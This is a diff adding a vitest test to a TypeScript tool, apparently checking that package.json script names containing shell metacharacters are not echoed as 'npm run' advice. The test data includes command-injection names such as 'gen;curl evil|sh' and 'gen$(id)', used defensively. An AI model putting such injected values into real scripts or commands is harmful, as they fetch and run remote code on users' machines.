@@ -3,10 +3,11 @@ import { mkdirSync, writeFileSync } from "node:fs";
 import { join } from "node:path";
 import { beforeAll, expect, test } from "vitest";
 import type { Report } from "../../src/model/report.ts";
+import { adviceOn } from "../../src/servers/typescript/generated.ts";
 import { replayRun } from "../../src/traces/replay/recorded-run.ts";
 import { serializeReport } from "../../src/verdict/report-bytes.ts";
 import { findingLines, reportOf } from "../support/account.ts";
-import { type Files, temporaryFolder } from "../support/files.ts";
+import { type Files, folderOf, temporaryFolder } from "../support/files.ts";
 import { gate } from "../support/gate.ts";
 import { testByNight } from "../support/night.ts";
 import { repositoryOf } from "../support/repository.ts";
@@ -189,4 +190,15 @@ test("the message names the project's own script that writes the folder", async 
       ". server-configuration",
     ]
   `);
+});
+
+test("a script whose name says more to a shell than a name is not shown", () => {
+  const adviceOf = (...names: readonly string[]) => {
+    const scripts = Object.fromEntries(names.map((name) => [name, "node codegen.mjs --out generated"]));
+    const root = folderOf({ "package.json": JSON.stringify({ scripts }) });
+    return adviceOn(join(root, "generated/tsconfig.json"), root);
+  };
+  for (const name of ["gen;curl evil|sh", "gen$(id)", "gen `id`", "--script-shell=x"])
+    expect(adviceOf(name)).toMatch(/^\. If a command writes it, run that/u);
+  expect(adviceOf("gen;id", "gen:types-1.x")).toMatch(/^\. `npm run gen:types-1\.x` in/u);
 });
